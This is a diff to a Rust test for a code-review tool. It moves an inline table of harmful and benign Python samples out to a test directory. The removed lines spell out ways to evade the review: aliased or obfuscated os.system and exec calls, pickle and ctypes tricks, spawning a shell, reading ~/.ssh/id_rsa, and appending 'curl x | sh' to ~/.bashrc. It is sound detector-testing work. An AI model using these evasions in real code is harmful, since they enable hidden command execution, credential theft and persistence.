@@ -347,58 +347,38 @@ fn rework_is_limited_per_lineage() {
 
 /// Harmful Python the review must not approve, spelled the ways that got
 /// past it before (issue 16: aliases, computed names, other files, process
-/// and interpreter hooks, home paths), and ordinary code it must approve.
+/// and interpreter hooks, home paths), and ordinary code it must approve:
+/// `tests/review-quality/python/` (its README says what each set is).
 /// Each through the real binary, each in a state dir of its own.
-const HARMFUL_AND_BENIGN: &[(&str, &str, bool)] = &[
-    ("alias_os_system", "import os as o\no.system('id')\n", false),
-    ("from_import_alias", "from os import system as d\nd('id')\n", false),
-    ("getattr_concat", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", false),
-    ("exec_alias_hex", "e = exec\ne(bytes.fromhex('7072696e742831293b').decode())\n", false),
-    ("exec_two_lines", "code = 'print(1)'\nexec \\\n(code)\n", false),
-    ("vars_builtins", "import builtins\nvars(builtins)['ex' + 'ec']('print(1)')\n", false),
-    ("sys_modules", "import sys\nsys.modules['o' + 's'].system('id')\n", false),
-    ("runpy", "import runpy\nrunpy.run_path('/tmp/x.py')\n", false),
-    ("pickle_loads", "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAA='))\n", false),
-    ("ctypes", "import ctypes\nctypes.CDLL(None).system(b'id')\n", false),
-    ("pty_spawn", "import pty\npty.spawn('/bin/sh')\n", false),
-    ("os_execv", "import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])\n", false),
-    ("breakpoint_hook", "import sys, os\nsys.breakpointhook = os.system\nbreakpoint('id')\n", false),
-    ("init_subclass", "import os\nclass Base:\n    def __init_subclass__(cls, **kw):\n        super().__init_subclass__(**kw)\n        os.system(cls.cmd)\nclass Evil(Base):\n    cmd = 'id'\n", false),
-    ("decorator_exec", "@exec\n@lambda f: 'print(1)'\ndef f():\n    pass\n", false),
-    ("read_ssh", "import os\nprint(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n", false),
-    ("write_bashrc", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl x | sh\\n')\n", false),
-    ("subprocess_b64", "import subprocess, base64\nsubprocess.run(['python3', '-c', base64.b64decode('cHJpbnQoMSk=').decode()])\n", false),
-    ("os_module_no_import", "os.system('id')\n", false),
-    ("spawn", "import os\nos.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', 'id')\n", false),
-    ("importlib_file", "import importlib.util\nspec = importlib.util.spec_from_file_location('m', '/tmp/m.py')\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n", false),
-    ("sys_path_import", "import sys\nsys.path.insert(0, '/tmp')\nimport payload\n", false),
-    ("assign_chain", "import subprocess\nr = subprocess\nrun = r.run\nrun('id', shell=True)\n", false),
-    ("builtins_attr", "import builtins\nf = builtins.exec\nf('print(1)')\n", false),
-    ("compile_alias", "c = compile\nexec_ = exec\nexec_(c('print(1)', 'x', 'exec'))\n", false),
-    ("socket_alias", "import socket as s\ns.create_connection(('example.org', 80))\n", false),
-    ("urllib_parse", "import urllib.parse\nprint(urllib.parse.quote('a b'))\n", true),
-    ("http_status", "from http import HTTPStatus\nprint(HTTPStatus.OK)\n", true),
-    ("json_dumps", "import json\nprint(json.dumps({'a': 1}))\n", true),
-    ("pathlib_cwd", "from pathlib import Path\nprint(sorted(p.name for p in Path('.').iterdir()))\n", true),
-    ("dataclass", "from dataclasses import dataclass\n@dataclass\nclass P:\n    x: int\nprint(P(1))\n", true),
-    ("subprocess_list", "import subprocess\nsubprocess.run(['ls', '-l'], check=True)\n", true),
-];
-
 #[test]
 fn harmful_spellings_are_not_approved_and_ordinary_code_is() {
+    let root =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/review-quality/python");
     let mut wrong = Vec::new();
-    for (name, code, benign) in HARMFUL_AND_BENIGN {
-        let setup = Setup::new("");
-        let file = setup.file(&format!("{name}.py"), code);
-        let out = run(setup.jail().args(["review", file.to_str().unwrap()]));
-        let approved = out.status.code() == Some(0);
-        if approved != *benign {
-            wrong.push(format!(
-                "{name}: exit {:?}\n{}",
-                out.status.code(),
-                stdout(&out)
-            ));
+    let mut seen = 0;
+    for (dir, benign) in [("harmful", false), ("benign", true)] {
+        let mut files: Vec<_> = std::fs::read_dir(root.join(dir))
+            .expect("the review-quality set")
+            .filter_map(|e| e.ok().map(|e| e.path()))
+            .filter(|p| p.extension().is_some_and(|e| e == "py"))
+            .collect();
+        files.sort();
+        for path in files {
+            seen += 1;
+            let setup = Setup::new("");
+            let name = path.file_name().unwrap().to_str().unwrap();
+            let file = setup.file(name, &std::fs::read_to_string(&path).expect("read"));
+            let out = run(setup.jail().args(["review", file.to_str().unwrap()]));
+            let approved = out.status.code() == Some(0);
+            if approved != benign {
+                wrong.push(format!(
+                    "{dir}/{name}: exit {:?}\n{}",
+                    out.status.code(),
+                    stdout(&out)
+                ));
+            }
         }
     }
+    assert_eq!(seen, 32, "the set changed size");
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
